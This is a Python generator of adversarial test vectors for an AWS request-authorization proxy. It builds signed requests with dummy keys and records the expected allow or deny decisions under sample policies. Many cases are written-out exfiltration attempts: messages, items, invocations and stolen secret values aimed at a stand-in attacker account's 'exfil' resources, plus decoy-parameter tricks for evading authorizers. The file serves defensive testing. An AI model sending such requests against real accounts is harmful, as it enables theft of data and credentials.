#!/usr/bin/env python3
"""Generate the adversarial authorization vectors.

What it does
------------
Builds requests an attacker holding one of our workload's keys would send to use AWS against its
owner — decoy parameters, unreadable bodies, several resources in one call, dependent actions, a
body the authorizer may not see, a destination owned by someone else, an account that cannot be
derived, spellings AWS may read differently — and records, for each, what AWS would authorize:
the decision, the reason code and every (action, resource) pair, under one of three policies
written here, to ``Tests/OracleVectors/Vectors/adversarial.json``. ``AdversarialVectorTests``
(Tests/AuthzServerTests) runs every case through every front end.

Each request is built in one of two ways (``"built_by"``):

  * ``botocore``: a real boto3 client (pinned 1.43.11) serializes the real operation, resolves the
    endpoint and signs (``SigV4Auth``/``S3SigV4Auth``); the request is captured in ``before-send``
    just before it would go on the wire;
  * ``hand``: requests no SDK sends (a decoy ``?QueueUrl=``, a duplicate key, a BOM, ``Operation=``,
    a raw ``#``, the SQS query protocol botocore no longer speaks, API Gateway and Lambda function
    URL calls). Where an operation exists, botocore still serializes it and the change is made in
    ``before-sign``, so botocore signs the final request; otherwise the request is written here and
    signed with ``SigV4Auth``/``S3SigV4Auth`` over its final form. Unsigned framing headers
    (``Content-Length``) are the only thing ever changed after signing.

Every request is signed at the frozen time ``NOW``; signatures are valid for the dummy secrets below
(the policies know no secret, so they are not verified). ``uuid.uuid4`` is seeded per case
(idempotency tokens, ``amz-sdk-invocation-id``) and the machine-dependent ``User-Agent`` replaced by
a constant, so the output is identical on every run.

Expectations
------------
``expect`` is the outcome with the whole body seen (Envoy gRPC, or Envoy HTTP with
``x-envoy-auth-partial-body: false``); ``expect_without_body`` (omitted when identical) the outcome
when the body is cut or not sent (Envoy without the body, nginx, the Squid helper). They follow
AWS's authorization (docs/authorization-model.md); where that is silent the AWS Service
Authorization Reference decides. Conventions:

  * ``authorizations`` lists every pair, primary first: the operation's own action, then the
    copy source (S3), ACL and SSE-KMS dependents, in that order; ``null`` is unknown.
  * A request refused as ``ambiguous_request``, or before it is classified (``legacy_access_key``),
    has nothing known: ``[[null, null]]``.
  * Without the body (or with an unreadable one), every pair a body member may add is listed with a
    ``null`` resource (unknown, never absent), in the order of the members in botocore's input
    shape: ``iam:PassRole`` (and ``lambda:TagResource`` and ``lambda:PassCapacityProvider``, which the
    Service Authorization Reference lists for a capacity provider, for ``CreateFunction``) for Lambda
    ``CreateFunction``/``UpdateFunctionConfiguration``; ``kms:GenerateDataKey``, ``kms:Decrypt``
    (and ``secretsmanager:TagResource``, ``secretsmanager:ReplicateSecretToRegions`` for
    ``CreateSecret``) for Secrets Manager ``CreateSecret``/``UpdateSecret``; both KMS ``ReEncrypt``
    pairs. ``DeleteObjects`` without the body is one ``s3:DeleteObject`` pair on ``null`` (the
    design). ``TransactWriteItems`` without the body is an unknown action: AWS authorizes the item
    actions (PutItem, UpdateItem, DeleteItem, ConditionCheckItem) and which ones is in the body.
  * A KMS alias (``alias/NAME`` or an alias ARN) used for a cryptographic call — KMS's own, the
    SSE-KMS key of S3, the ``KmsKeyId`` of Secrets Manager — leaves the key unknown: AWS authorizes
    such a call against the key the alias points to, and an alias ARN in a policy's ``Resource``
    controls only alias operations (CreateAlias, UpdateAlias, …), where it is the resource.
  * Secrets Manager ``BatchGetSecretValue`` is ``secretsmanager:BatchGetSecretValue`` (no resource
    type: ``null``) plus ``secretsmanager:GetSecretValue`` on every secret it returns, plus
    ``secretsmanager:ListSecrets`` with ``Filters`` (the Service Authorization Reference).

Regenerate
----------
From the repository root::

    python3 scripts/generate-adversarial-vectors.py

Needs botocore==1.43.11 and boto3==1.43.11. No network access; AWS_* environment variables and
config files are ignored.
"""

import base64
import datetime
import gzip
import hashlib
import json
import os
import re
import sys
import uuid
from collections import Counter
from unittest import mock
from urllib.parse import quote, urlsplit

# Isolate from the user's AWS configuration before botocore is imported.
for _k in list(os.environ):
    if _k.startswith("AWS_") or _k.startswith("BOTO"):
        del os.environ[_k]
os.environ["AWS_CONFIG_FILE"] = os.devnull
os.environ["AWS_SHARED_CREDENTIALS_FILE"] = os.devnull
os.environ["AWS_EC2_METADATA_DISABLED"] = "true"
# botocore's own Python signers (SigV4Auth, S3SigV4Auth), not the CRT's.
os.environ["BOTO_DISABLE_CRT"] = "true"

import boto3  # noqa: E402
import botocore  # noqa: E402
import botocore.auth  # noqa: E402
import botocore.compat  # noqa: E402
import botocore.signers  # noqa: E402
from botocore import xform_name  # noqa: E402
from botocore.auth import S3SigV4Auth, SigV4Auth  # noqa: E402
from botocore.awsrequest import AWSRequest  # noqa: E402
from botocore.config import Config  # noqa: E402
from botocore.credentials import Credentials  # noqa: E402
from botocore.utils import percent_encode_sequence  # noqa: E402

BOTOCORE_VERSION = "1.43.11"
BOTO3_VERSION = "1.43.11"
GENERATOR = "scripts/generate-adversarial-vectors.py"
REPO_ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUTPUT = os.path.join(REPO_ROOT, "Tests", "OracleVectors", "Vectors", "adversarial.json")

if botocore.__version__ != BOTOCORE_VERSION or boto3.__version__ != BOTO3_VERSION:
    sys.exit(
        f"expected botocore/boto3 {BOTOCORE_VERSION}/{BOTO3_VERSION}, found "
        f"{botocore.__version__}/{boto3.__version__}; install the pinned versions "
        "(or update BOTOCORE_VERSION deliberately and review the diff)"
    )

# ---------------------------------------------------------------------------
# Fixed inputs
# ---------------------------------------------------------------------------

NOW = datetime.datetime(2026, 11, 30, 12, 0, 0, tzinfo=datetime.timezone.utc)
FIXED_USER_AGENT = "Boto3/1.43.11 md/Botocore#1.43.11 ua/2.1 lang/python Botocore/1.43.11"
REGION = "us-east-1"

PROD = "171436882533"  # ours, named prod
ATTACKER = "411435703965"  # the attacker's own account

SESSION_TOKEN = (
    "IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQDexample+token/"
    "AiBsZXNzaW9uLXRva2VuLWZvci10ZXN0cw==EXAMPLE"
)
# Access key id → account (derived offline): prod, the attacker's, and session credentials of a
# third account (609629065308); the secrets are arbitrary.
K_PROD = Credentials("AKIASP2TPHJSQH3FJRUX", "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY")
K_ATTACKER = Credentials("AKIAV7S32T2OSBFJQOIY", "je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY")
K_SESSION = Credentials("ASIAY34FZKBOKMUTVV7A", "kWcrlUX5JEDGM/LtmEENI/aVmYvHNif5zB+d9+ct", SESSION_TOKEN)
# Old-generation ids: no account can be derived.
K_LEGACY = Credentials("AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
K_LEGACY_SESSION = Credentials("ASIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", SESSION_TOKEN)


def _frozen_get_current_datetime(remove_tzinfo=True):
    return NOW.replace(tzinfo=None) if remove_tzinfo else NOW


class _Uuid4:
    """uuid.uuid4 replacement: a stream of version-4 UUIDs seeded per case."""

    def __init__(self):
        self.seed = ""
        self.n = 0

    def reset(self, seed):
        self.seed, self.n = seed, 0

    def __call__(self):
        self.n += 1
        digest = hashlib.sha256(f"{self.seed}#{self.n}".encode()).digest()
        return uuid.UUID(bytes=digest[:16], version=4)


_uuid4 = _Uuid4()

# ---------------------------------------------------------------------------
# Names and ARNs
# ---------------------------------------------------------------------------

Q_OURS = f"https://sqs.us-east-1.amazonaws.com/{PROD}/app-jobs"
Q_ATTACKER = f"https://sqs.us-east-1.amazonaws.com/{ATTACKER}/exfil"
KEY_OURS = "1234abcd-12ab-34cd-56ef-1234567890ab"
KEY_OURS_2 = "5678efab-56ef-78ab-90cd-5678901234ef"
KEY_ATTACKER = "0987dcba-09fe-87dc-65ba-ab0987654321"
TOPIC_OURS = f"arn:aws:sns:us-east-1:{PROD}:app-events"
TOPIC_ATTACKER = f"arn:aws:sns:us-east-1:{ATTACKER}:exfil"
ROLE_OURS = f"arn:aws:iam::{PROD}:role/app-runner"
ROLE_ADMIN = f"arn:aws:iam::{PROD}:role/admin"
ROLE_ATTACKER = f"arn:aws:iam::{ATTACKER}:role/exfil"
ATTACKER_CANONICAL_ID = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"
API_HOST = "abc123.execute-api.us-east-1.amazonaws.com"
FUNCTION_URL_HOST = "x7kqh2m4vb3nq6p5r8s9t0uvwzyab1cd.lambda-url.us-east-1.on.aws"


def sqs_arn(account, name, region=REGION):
    return f"arn:aws:sqs:{region}:{account}:{name}"


def table(account, name, region=REGION):
    return f"arn:aws:dynamodb:{region}:{account}:table/{name}"


def kms_key(account, key_id, region=REGION):
    return f"arn:aws:kms:{region}:{account}:key/{key_id}"


def kms_alias(account, name, region=REGION):
    return f"arn:aws:kms:{region}:{account}:alias/{name}"


def secret(account, name, region=REGION):
    return f"arn:aws:secretsmanager:{region}:{account}:secret:{name}"


def function(account, name, region=REGION):
    return f"arn:aws:lambda:{region}:{account}:function:{name}"


def s3(bucket, key=None):
    return f"arn:aws:s3:::{bucket}" + ("" if key is None else f"/{key}")


# ---------------------------------------------------------------------------
# Policies (policy-only YAML documents, read by PolicyConfig.parse in Sources/Policy/Config)
# ---------------------------------------------------------------------------

_DENIES = """\
  - name: no-protected-deletes
    effect: deny
    actions: ["s3:DeleteObject*"]
    resources: ["arn:aws:s3:::app-protected/*"]
  - name: no-root-secret
    effect: deny
    actions: ["secretsmanager:GetSecretValue"]
    resources: ["arn:aws:secretsmanager:*:*:secret:app/root*"]
"""

# `main` has no accounts: section, so its statements name prod by id (a name needs accounts:).
_MAIN_ALLOWS = """\
  - name: prod-sqs
    effect: allow
    accounts: ["171436882533"]   # prod
    actions: ["sqs:*"]
    resources: ["arn:aws:sqs:*:171436882533:*"]
  - name: prod-dynamodb
    effect: allow
    accounts: ["171436882533"]
    actions: ["dynamodb:*"]
    resources: ["arn:aws:dynamodb:*:171436882533:table/app-*"]
  - name: prod-kms
    effect: allow
    accounts: ["171436882533"]
    actions: ["kms:*"]
    resources: ["arn:aws:kms:*:171436882533:key/*", "arn:aws:kms:*:171436882533:alias/app-*"]
  - name: prod-sns
    effect: allow
    accounts: ["171436882533"]
    actions: ["sns:*"]
    resources: ["arn:aws:sns:*:171436882533:*"]
  - name: prod-secrets
    effect: allow
    accounts: ["171436882533"]
    actions: ["secretsmanager:*"]
    resources: ["arn:aws:secretsmanager:*:171436882533:secret:app/*"]
  - name: prod-lambda
    effect: allow
    accounts: ["171436882533"]
    actions: ["lambda:*"]
    resources: ["arn:aws:lambda:*:171436882533:function:app-*"]
  - name: prod-s3
    effect: allow
    accounts: ["171436882533"]
    actions: ["s3:*"]
    resources: ["arn:aws:s3:::app-*", "arn:aws:s3:::app-*/*"]
  - name: prod-whoami
    effect: allow
    accounts: ["171436882533"]
    actions: ["sts:GetCallerIdentity"]
  - name: prod-assume-own-roles
    effect: allow
    accounts: ["171436882533"]
    actions: ["sts:AssumeRole*", "sts:TagSession", "sts:SetSourceIdentity"]
    resources: ["arn:aws:iam::171436882533:role/*"]
  - name: prod-pass-app-roles
    effect: allow
    accounts: ["171436882533"]
    actions: ["iam:PassRole"]
    resources: ["arn:aws:iam::171436882533:role/app-*"]
  - name: prod-orders-api
    effect: allow
    accounts: ["171436882533"]
    actions: ["execute-api:Invoke"]
    hosts: ["abc123.execute-api.us-east-1.amazonaws.com"]
"""

POLICY_MAIN = (
    "# Adversarial vectors, policy \"main\" (scripts/generate-adversarial-vectors.py).\n"
    "credentials:\n"
    "  require_signature: true\n"
    "  max_clock_skew: 15m\n"
    "  legacy_access_keys: deny\n"
    "rules:\n" + _DENIES + _MAIN_ALLOWS + "default: deny\n"
)

POLICY_ALLOWLIST = (
    "# Adversarial vectors, policy \"allowlist\" (scripts/generate-adversarial-vectors.py).\n"
    "credentials:\n"
    "  require_signature: true\n"
    "  max_clock_skew: 15m\n"
    "  legacy_access_keys: allow\n"
    "accounts:\n"
    "  \"171436882533\":\n"
    "    name: prod\n"
    "    regions:\n"
    "      \"*\": { services: [\"*\"] }\n"
    "rules:\n" + _DENIES + """\
  - name: deny-prod-secrets
    effect: deny
    accounts: [prod]
    actions: ["secretsmanager:*"]
""" + "default: deny\n"
)

POLICY_BUCKET_OWNER = (
    "# Adversarial vectors, policy \"bucket-owner\" (scripts/generate-adversarial-vectors.py).\n"
    "credentials:\n"
    "  require_signature: true\n"
    "  max_clock_skew: 15m\n"
    "  legacy_access_keys: deny\n"
    "s3:\n"
    "  expected_bucket_owner: required\n"
    "  bucket_owners: [\"171436882533\"]   # prod\n"
    "rules:\n" + _DENIES + _MAIN_ALLOWS + """\
  - name: prod-access-points
    effect: allow
    accounts: ["171436882533"]
    actions: ["s3:*"]
    resources: ["arn:aws:s3:us-east-1:171436882533:accesspoint/*"]
""" + "default: deny\n"
)

POLICIES = {"main": POLICY_MAIN, "allowlist": POLICY_ALLOWLIST, "bucket-owner": POLICY_BUCKET_OWNER}

# ---------------------------------------------------------------------------
# Request builders
# ---------------------------------------------------------------------------


class _Captured(Exception):
    """Raised from before-send so that nothing is sent."""


def _s(v):
    return v.decode("utf-8") if isinstance(v, (bytes, bytearray)) else str(v)


def _body_bytes(body):
    if body is None:
        return b""
    if isinstance(body, (bytes, bytearray)):
        return bytes(body)
    if isinstance(body, str):
        return body.encode("utf-8")
    if hasattr(body, "read"):  # AwsChunkedWrapper of S3 uploads
        if hasattr(body, "seek"):
            body.seek(0)
        data = body.read()
        if hasattr(body, "seek"):
            body.seek(0)
        return data if isinstance(data, bytes) else data.encode("utf-8")
    raise TypeError(f"unexpected body type {type(body)}")


_sessions = {}


def _session(creds):
    key = (creds.access_key, creds.token)
    if key not in _sessions:
        _sessions[key] = boto3.session.Session(
            aws_access_key_id=creds.access_key, aws_secret_access_key=creds.secret_key,
            aws_session_token=creds.token)
    return _sessions[key]


_current = {"name": None}


def sdk(model, operation, params, *, creds=K_PROD, region=REGION, config=None, mutate=None,
        drop_headers=()):
    """Call `operation` on a real client; `mutate(request)` edits the AWSRequest before botocore signs
    it (the request is then built by hand); `drop_headers` removes unsigned headers afterwards."""
    cfg = Config(retries={"total_max_attempts": 1})
    if config is not None:
        cfg = cfg.merge(config)
    client = _session(creds).client(model, region_name=region, config=cfg)
    sent, ops = [], []

    def before_call(model, **kwargs):
        ops.append(model.name)

    def before_sign(request, **kwargs):
        if mutate is not None:
            mutate(request)

    def before_send(request, **kwargs):
        sent.append(request)
        raise _Captured()

    client.meta.events.register("before-call", before_call)
    client.meta.events.register("before-sign", before_sign)
    client.meta.events.register("before-send", before_send)
    _uuid4.reset(_current["name"])
    try:
        getattr(client, xform_name(operation))(**params)
    except _Captured:
        pass
    else:
        raise AssertionError(f"{_current['name']}: request was not captured")
    assert ops == [operation] and len(sent) == 1, (_current["name"], ops, len(sent))
    req = sent[0]
    parts = urlsplit(req.url)
    headers = [["Host", parts.netloc]]
    for k, v in req.headers.items():
        if k.lower() in drop_headers:
            continue
        v = _s(v)
        if k.lower() == "user-agent":
            v = FIXED_USER_AGENT
        headers.append([k, v])
    target = parts.path + ("?" + parts.query if parts.query else "")
    wire = {
        "method": req.method,
        "host": parts.netloc,
        "target": target,
        "headers": headers,
        "body_base64": base64.b64encode(_body_bytes(req.body)).decode("ascii"),
    }
    return wire, ("hand" if mutate is not None or drop_headers else "botocore")


def hand(method, host, target, headers=(), body=b"", *, service, region=REGION, creds=K_PROD,
         s3_signer=False, content_length=True, sign_target=None):
    """A request written here, signed with SigV4Auth (S3SigV4Auth for S3) over its final form.

    `target` is sent verbatim; botocore signs the path and query it parses from it (a raw `#`
    starts a fragment for it, which it leaves out). `sign_target` is the same target spelled as
    botocore expects it, where botocore would sign the sent spelling differently from AWS (S3
    signs a lower-case `%2f` as the `%2F` it decodes and re-encodes to; botocore signs it as is)."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    request = AWSRequest(method=method, url=f"https://{host}{sign_target or target}", data=body)
    request.headers["Host"] = host
    for k, v in headers:
        request.headers[k] = v  # HTTPHeaders: appends, so a repeated name stays repeated
    signer = (S3SigV4Auth if s3_signer else SigV4Auth)(creds, service, region)
    signer.add_auth(request)
    wire_headers = [[k, _s(v)] for k, v in request.headers.items()]
    if content_length and (body or method in ("POST", "PUT")):
        wire_headers.append(["Content-Length", str(len(body))])
    wire = {
        "method": method,
        "host": host,
        "target": target,
        "headers": wire_headers,
        "body_base64": base64.b64encode(body).decode("ascii"),
    }
    return wire, "hand"


def form(pairs):
    return percent_encode_sequence(pairs)


FORM = ("Content-Type", "application/x-www-form-urlencoded; charset=utf-8")


# Mutations applied in before-sign (botocore then signs the result).

def add_query(query):
    def mutate(request):
        request.url += ("&" if "?" in request.url else "?") + query
    return mutate


def set_path(path):
    def mutate(request):
        p = urlsplit(request.url)
        request.url = f"{p.scheme}://{p.netloc}{path}" + ("?" + p.query if p.query else "")
    return mutate


def set_body(body):
    def mutate(request):
        request.data = body.encode("utf-8") if isinstance(body, str) else body
    return mutate


def edit_body(fn):
    def mutate(request):
        data = request.data if isinstance(request.data, bytes) else request.data.encode("utf-8")
        request.data = fn(data)
    return mutate


def set_header(name, value):
    def mutate(request):
        if name in request.headers:
            request.headers.replace_header(name, value)
        else:
            request.headers[name] = value
    return mutate


def chain(*mutations):
    def mutate(request):
        for m in mutations:
            m(request)
    return mutate


# ---------------------------------------------------------------------------
# Cases
# ---------------------------------------------------------------------------

CLASSES = [
    "resource-from-body", "unreadable-body", "every-resource", "dependent-action", "body-presence",
    "destination-owner", "unknown-account", "conservative-parsing",
]
CASES = []
_names = set()

UNKNOWN = (None, None)
# CreateSecret whose body is unknown: every pair a body member may add, in the order of the members in
# botocore's input shape (KmsKeyId, Tags, AddReplicaRegions).
CREATE_SECRET_UNKNOWN = (
    ("secretsmanager:CreateSecret", None), ("kms:GenerateDataKey", None), ("kms:Decrypt", None),
    ("secretsmanager:TagResource", None), ("secretsmanager:ReplicateSecretToRegions", None))


def allow(*pairs):
    return {"decision": "allow", "reason": "allowed", "authorizations": [list(p) for p in pairs]}


def deny(reason, *pairs):
    assert reason != "allowed"
    return {"decision": "deny", "reason": reason, "authorizations": [list(p) for p in pairs]}


def nmr(*pairs):
    return deny("no_matching_rule", *pairs)


def by_rule(*pairs):
    return deny("denied_by_rule", *pairs)


def ambiguous():
    return deny("ambiguous_request", UNKNOWN)


def case(name, cls, service, policy, why, build, expect, without=None):
    """`build` is a zero-argument function returning (wire request, built_by)."""
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", name), name
    assert name not in _names, f"duplicate case {name}"
    assert cls in CLASSES, cls
    assert policy in POLICIES, policy
    assert why.endswith(".") and "\n" not in why, name
    _names.add(name)
    _current["name"] = name
    request, built_by = build()
    entry = {
        "name": name,
        "class": cls,
        "service": service,
        "policy": policy,
        "built_by": built_by,
        "why": why,
        "request": request,
        "expect": expect,
    }
    if without is not None and without != expect:
        entry["expect_without_body"] = without
    CASES.append(entry)


# --- resource-from-body ------------------------------------------------------------------------

def resource_from_body_cases():
    c = "resource-from-body"
    a_q, o_q = sqs_arn(ATTACKER, "exfil"), sqs_arn(PROD, "app-jobs")
    a_t, o_t = table(ATTACKER, "exfil"), table(PROD, "app-orders")
    a_k = kms_key(ATTACKER, KEY_ATTACKER)
    item = {"pk": {"S": "order#1"}, "total": {"N": "42"}}

    case("sqs-json-url-queueurl-decoy", c, "sqs", "main",
         "SendMessage names the attacker's queue in the JSON body and ours in ?QueueUrl=; SQS reads only the body.",
         lambda: sdk("sqs", "SendMessage", {"QueueUrl": Q_ATTACKER, "MessageBody": "dump"},
                     mutate=add_query("QueueUrl=" + quote(Q_OURS, safe=""))),
         nmr(("sqs:SendMessage", a_q)), nmr(("sqs:SendMessage", None)))
    case("sqs-json-send-message-ours", c, "sqs", "main",
         "Control: the honest SendMessage to our queue is allowed when the body is seen.",
         lambda: sdk("sqs", "SendMessage", {"QueueUrl": Q_OURS, "MessageBody": "job"}),
         allow(("sqs:SendMessage", o_q)), nmr(("sqs:SendMessage", None)))
    case("sqs-json-messagebody-embedded-queueurl", c, "sqs", "main",
         "The message text is JSON naming our queue and comes first; SQS sends to the top-level QueueUrl, the attacker's.",
         lambda: sdk("sqs", "SendMessage", {"MessageBody": json.dumps({"QueueUrl": Q_OURS}), "QueueUrl": Q_ATTACKER}),
         nmr(("sqs:SendMessage", a_q)), nmr(("sqs:SendMessage", None)))
    case("dynamodb-url-tablename-decoy", c, "dynamodb", "main",
         "PutItem names our table only in ?TableName= and the attacker's table ARN in the body, which DynamoDB writes to.",
         lambda: sdk("dynamodb", "PutItem", {"TableName": a_t, "Item": item}, mutate=add_query("TableName=app-orders")),
         nmr(("dynamodb:PutItem", a_t)), nmr(("dynamodb:PutItem", None)))
    case("dynamodb-put-item-ours", c, "dynamodb", "main",
         "Control: PutItem into our app- table is allowed when the body is seen.",
         lambda: sdk("dynamodb", "PutItem", {"TableName": "app-orders", "Item": item}),
         allow(("dynamodb:PutItem", o_t)), nmr(("dynamodb:PutItem", None)))
    case("dynamodb-table-arn-other-account", c, "dynamodb", "main",
         "PutItem with a TableName ARN in the attacker's account (cross-account via a resource policy) writes there.",
         lambda: sdk("dynamodb", "PutItem", {"TableName": table(ATTACKER, "app-orders"), "Item": item}),
         nmr(("dynamodb:PutItem", table(ATTACKER, "app-orders"))), nmr(("dynamodb:PutItem", None)))
    case("kms-url-keyid-decoy", c, "kms", "main",
         "Encrypt names our alias in ?KeyId= and the attacker's key ARN in the body, which KMS uses.",
         lambda: sdk("kms", "Encrypt", {"KeyId": a_k, "Plaintext": b"card=4111111111111111"},
                     mutate=add_query("KeyId=" + quote("alias/app-main", safe=""))),
         nmr(("kms:Encrypt", a_k)), nmr(("kms:Encrypt", None)))
    case("kms-encryption-context-keyid-decoy", c, "kms", "main",
         "An encryption-context entry named KeyId holding our alias comes before the real KeyId, the attacker's key.",
         lambda: sdk("kms", "Encrypt", {"EncryptionContext": {"KeyId": "alias/app-main"}, "KeyId": a_k,
                                        "Plaintext": b"secret"}),
         nmr(("kms:Encrypt", a_k)), nmr(("kms:Encrypt", None)))
    case("kms-encrypt-by-alias", c, "kms", "main",
         "Encrypt with alias/app-main: AWS authorizes it against the key the alias points to, which the request does not name, so it is unknown.",
         lambda: sdk("kms", "Encrypt", {"KeyId": "alias/app-main", "Plaintext": b"hello"}),
         nmr(("kms:Encrypt", None)))
    case("kms-encrypt-attacker-alias-arn", c, "kms", "main",
         "Encrypt with an alias ARN of the same name in the attacker's account uses the attacker's key, unknown here.",
         lambda: sdk("kms", "Encrypt", {"KeyId": kms_alias(ATTACKER, "app-main"), "Plaintext": b"hello"}),
         nmr(("kms:Encrypt", None)))
    case("kms-encrypt-key-arn-ours", c, "kms", "main",
         "Control: Encrypt naming our key by its ARN is allowed.",
         lambda: sdk("kms", "Encrypt", {"KeyId": kms_key(PROD, KEY_OURS), "Plaintext": b"hello"}),
         allow(("kms:Encrypt", kms_key(PROD, KEY_OURS))), nmr(("kms:Encrypt", None)))
    case("kms-encrypt-key-id-eu-west-1", c, "kms", "main",
         "Control: a bare key id becomes a key ARN in the request's region (eu-west-1) and our account.",
         lambda: sdk("kms", "Encrypt", {"KeyId": KEY_OURS, "Plaintext": b"hello"}, region="eu-west-1"),
         allow(("kms:Encrypt", kms_key(PROD, KEY_OURS, "eu-west-1"))), nmr(("kms:Encrypt", None)))
    a_sec = secret(ATTACKER, "app/drop-Xy12Ab")
    case("secretsmanager-url-secretid-decoy", c, "secretsmanager", "main",
         "GetSecretValue names our secret in ?SecretId= and the attacker's secret ARN in the body, which is what is read.",
         lambda: sdk("secretsmanager", "GetSecretValue", {"SecretId": a_sec},
                     mutate=add_query("SecretId=" + quote("app/db", safe=""))),
         nmr(("secretsmanager:GetSecretValue", a_sec)), by_rule(("secretsmanager:GetSecretValue", None)))
    case("secretsmanager-get-by-name", c, "secretsmanager", "main",
         "Control: a secret name becomes a secret ARN in our account; without the body it is unknown and the root-secret deny matches.",
         lambda: sdk("secretsmanager", "GetSecretValue", {"SecretId": "app/db"}),
         allow(("secretsmanager:GetSecretValue", secret(PROD, "app/db"))),
         by_rule(("secretsmanager:GetSecretValue", None)))
    case("secretsmanager-get-by-arn", c, "secretsmanager", "main",
         "Control: a full secret ARN (with its random suffix) is kept as given.",
         lambda: sdk("secretsmanager", "GetSecretValue", {"SecretId": secret(PROD, "app/db-AbCdEf")}),
         allow(("secretsmanager:GetSecretValue", secret(PROD, "app/db-AbCdEf"))),
         by_rule(("secretsmanager:GetSecretValue", None)))
    case("secretsmanager-get-root-by-name", c, "secretsmanager", "main",
         "Reading the root secret by name is denied by no-root-secret.",
         lambda: sdk("secretsmanager", "GetSecretValue", {"SecretId": "app/root-credentials"}),
         by_rule(("secretsmanager:GetSecretValue", secret(PROD, "app/root-credentials"))),
         by_rule(("secretsmanager:GetSecretValue", None)))
    case("secretsmanager-get-root-by-arn", c, "secretsmanager", "main",
         "Reading the root secret by its full ARN is denied by no-root-secret.",
         lambda: sdk("secretsmanager", "GetSecretValue", {"SecretId": secret(PROD, "app/root-credentials-Q1w2E3")}),
         by_rule(("secretsmanager:GetSecretValue", secret(PROD, "app/root-credentials-Q1w2E3"))),
         by_rule(("secretsmanager:GetSecretValue", None)))
    case("secretsmanager-put-value-attacker-secret", c, "secretsmanager", "main",
         "PutSecretValue writes stolen data into a secret in the attacker's account that shares it with us.",
         lambda: sdk("secretsmanager", "PutSecretValue", {"SecretId": a_sec, "SecretString": "AKIA...:secret"}),
         nmr(("secretsmanager:PutSecretValue", a_sec)), nmr(("secretsmanager:PutSecretValue", None)))
    a_fn, o_fn = function(ATTACKER, "app-exfil"), function(PROD, "app-worker")
    case("lambda-invoke-attacker-arn-in-path", c, "lambda", "main",
         "Invoke addresses the attacker's function by ARN in the path, where Lambda reads it.",
         lambda: sdk("lambda", "Invoke", {"FunctionName": a_fn, "Payload": b'{"data":"dump"}'}),
         nmr(("lambda:InvokeFunction", a_fn)))
    case("lambda-invoke-ours", c, "lambda", "main",
         "Control: invoking our app- function by name is allowed (the function is in the path, so also without the body).",
         lambda: sdk("lambda", "Invoke", {"FunctionName": "app-worker", "Payload": b"{}"}),
         allow(("lambda:InvokeFunction", o_fn)))
    case("lambda-invoke-partial-arn-attacker", c, "lambda", "main",
         "A partial ARN ACCOUNT:function:NAME names the attacker's account, not the signer's.",
         lambda: sdk("lambda", "Invoke", {"FunctionName": f"{ATTACKER}:function:app-exfil", "Payload": b"{}"}),
         nmr(("lambda:InvokeFunction", a_fn)))
    case("lambda-invoke-payload-decoy", c, "lambda", "main",
         "The invocation payload is JSON naming our function; Lambda runs the function in the path, the attacker's.",
         lambda: sdk("lambda", "Invoke", {"FunctionName": a_fn,
                                          "Payload": json.dumps({"FunctionName": "app-worker"}).encode()}),
         nmr(("lambda:InvokeFunction", a_fn)))
    case("lambda-invoke-query-functionname-decoy", c, "lambda", "main",
         "A ?FunctionName= naming our function beside the attacker's function in the path changes nothing for Lambda.",
         lambda: sdk("lambda", "Invoke", {"FunctionName": a_fn, "Payload": b"{}"},
                     mutate=add_query("FunctionName=app-worker")),
         nmr(("lambda:InvokeFunction", a_fn)))
    case("sns-publish-topicarn-in-url-only", c, "sns", "main",
         "Control: the query protocol reads parameters from the URL too, so TopicArn in the URL names the topic.",
         lambda: hand("POST", "sns.us-east-1.amazonaws.com", "/?" + form({"TopicArn": TOPIC_OURS}), [FORM],
                      form({"Action": "Publish", "Version": "2010-03-31", "Message": "hello"}), service="sns"),
         allow(("sns:Publish", TOPIC_OURS)), nmr(UNKNOWN))
    case("sns-publish-attacker-topic", c, "sns", "main",
         "Publish to the attacker's topic (the form body names it).",
         lambda: sdk("sns", "Publish", {"TopicArn": TOPIC_ATTACKER, "Message": "dump"}),
         nmr(("sns:Publish", TOPIC_ATTACKER)), nmr(UNKNOWN))
    case("sns-publish-ours", c, "sns", "main",
         "Control: Publish to our topic is allowed once the body is seen; without it the action is unknown.",
         lambda: sdk("sns", "Publish", {"TopicArn": TOPIC_OURS, "Message": "event"}),
         allow(("sns:Publish", TOPIC_OURS)), nmr(UNKNOWN))
    case("sqs-query-attacker-queue-in-body", c, "sqs", "main",
         "The SQS query protocol (older SDKs) with the attacker's QueueUrl in the form body posted to /.",
         lambda: hand("POST", "sqs.us-east-1.amazonaws.com", "/", [FORM],
                      form({"Action": "SendMessage", "Version": "2012-11-05", "QueueUrl": Q_ATTACKER,
                            "MessageBody": "dump"}), service="sqs"),
         nmr(("sqs:SendMessage", a_q)), nmr(UNKNOWN))
    case("sqs-query-queue-path-ours", c, "sqs", "main",
         "Control: the query protocol posted to our queue's path with no QueueUrl parameter names our queue.",
         lambda: hand("POST", "sqs.us-east-1.amazonaws.com", f"/{PROD}/app-jobs", [FORM],
                      form({"Action": "SendMessage", "Version": "2012-11-05", "MessageBody": "job"}), service="sqs"),
         allow(("sqs:SendMessage", o_q)), nmr(UNKNOWN))
    case("sqs-query-queue-path-attacker", c, "sqs", "main",
         "The query protocol posted to the attacker's queue path; without the body even the action is unknown.",
         lambda: hand("POST", "sqs.us-east-1.amazonaws.com", f"/{ATTACKER}/exfil", [FORM],
                      form({"Action": "SendMessage", "Version": "2012-11-05", "MessageBody": "dump"}), service="sqs"),
         nmr(("sqs:SendMessage", a_q)), nmr(UNKNOWN))


# --- unreadable-body ---------------------------------------------------------------------------

def _depth(value):
    if isinstance(value, dict):
        return 1 + max((_depth(v) for v in value.values()), default=0)
    if isinstance(value, list):
        return 1 + max((_depth(v) for v in value), default=0)
    return 0


def _nested_item(levels, innermost):
    value = innermost
    for _ in range(levels):
        value = {"L": [value]}
    return {"pk": {"S": "order#1"}, "doc": value}


